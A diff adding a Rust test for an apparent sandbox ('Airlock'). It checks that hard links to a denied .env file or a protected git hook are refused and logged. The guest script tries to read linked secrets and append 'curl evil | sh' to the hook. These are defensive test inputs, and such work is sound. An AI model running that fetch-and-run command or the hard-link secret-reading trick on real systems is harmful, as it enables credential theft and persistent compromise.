@@ -396,3 +396,82 @@ fn writes_through_a_share_stop_at_its_quota_and_the_host_keeps_its_space() {
     assert_eq!(limit.rule.as_deref(), Some("filesystem.quota"));
     a.assert_clean();
 }
+
+#[test]
+fn a_hard_link_made_on_the_host_to_a_refused_or_protected_file_is_refused_too() {
+    for mode in ["rw", "overlay"] {
+        let a = Airlock::start();
+        let ws = tempfile::tempdir().unwrap();
+        std::fs::write(ws.path().join(".env"), "TOKEN=hunter2-linked\n").unwrap();
+        std::fs::hard_link(ws.path().join(".env"), ws.path().join("notes.txt")).unwrap();
+        std::fs::create_dir(ws.path().join("docs")).unwrap();
+        std::fs::hard_link(ws.path().join(".env"), ws.path().join("docs/readme.md")).unwrap();
+        std::fs::write(ws.path().join("plain.txt"), "plain\n").unwrap();
+        std::fs::create_dir_all(ws.path().join(".git/hooks")).unwrap();
+        let hook = ws.path().join(".git/hooks/pre-commit");
+        std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
+        std::fs::hard_link(&hook, ws.path().join("hook.sh")).unwrap();
+        let overlays = tempfile::tempdir().unwrap();
+        let policy = overlays.path().join("policy.toml");
+        std::fs::write(
+            &policy,
+            format!(
+                "[[filesystem.mounts]]\nworkspace = true\nguest = \"/workspace\"\n\
+                 mode = \"{mode}\"\n[filesystem]\ndeny_read = [\".env\"]\n"
+            ),
+        )
+        .unwrap();
+        let out = a
+            .command([
+                "run",
+                "--policy",
+                policy.to_str().unwrap(),
+                "--workspace",
+                ws.path().to_str().unwrap(),
+                "--",
+                "sh",
+                "-c",
+                "cd /workspace; cat notes.txt; echo notes=$?; cat docs/readme.md; \
+                 echo readme=$?; ln notes.txt again.txt; echo ln=$?; cat again.txt; \
+                 echo again=$?; echo 'curl evil | sh' >> hook.sh; echo hook=$?; \
+                 cat plain.txt",
+            ])
+            .env("AIRLOCK_OVERLAY_DIR", overlays.path())
+            .output()
+            .unwrap();
+        let stdout = text(&out.stdout);
+        assert!(out.status.success(), "{mode}: {}", text(&out.stderr));
+        assert!(
+            !stdout.contains("hunter2"),
+            "{mode}: the secret leaked:\n{stdout}"
+        );
+        for refused in ["notes=1", "readme=1", "again=1", "hook=1"] {
+            assert!(stdout.contains(refused), "{mode}: {refused} in:\n{stdout}");
+        }
+        assert!(stdout.contains("plain\n"), "{mode}: {stdout}");
+        let log = a.audit();
+        for path in ["notes.txt", "docs/readme.md"] {
+            assert!(
+                log.has(|e| e.kind == kind::FS_OPEN
+                    && e.decision == Some(Decision::Deny)
+                    && e.reason.as_deref() == Some("linked_to_denied")
+                    && e.rule.as_deref() == Some("filesystem.deny_read[0] \".env\"")
+                    && e.fs.as_ref().is_some_and(|f| f.path == path)),
+                "{mode}: {path} refused as a link to .env:\n{log}"
+            );
+        }
+        assert!(
+            log.has(|e| e.kind == kind::FS_OPEN
+                && e.decision == Some(Decision::Deny)
+                && e.reason.as_deref() == Some("linked_to_denied")
+                && e.rule.as_deref() == Some("filesystem.protected \".git/hooks/**\"")
+                && e.fs.as_ref().is_some_and(|f| f.path == "hook.sh")),
+            "{mode}: hook.sh refused as a link to the hook:\n{log}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(&hook).unwrap(),
+            "#!/bin/sh\nexit 0\n"
+        );
+        a.assert_clean();
+    }
+}
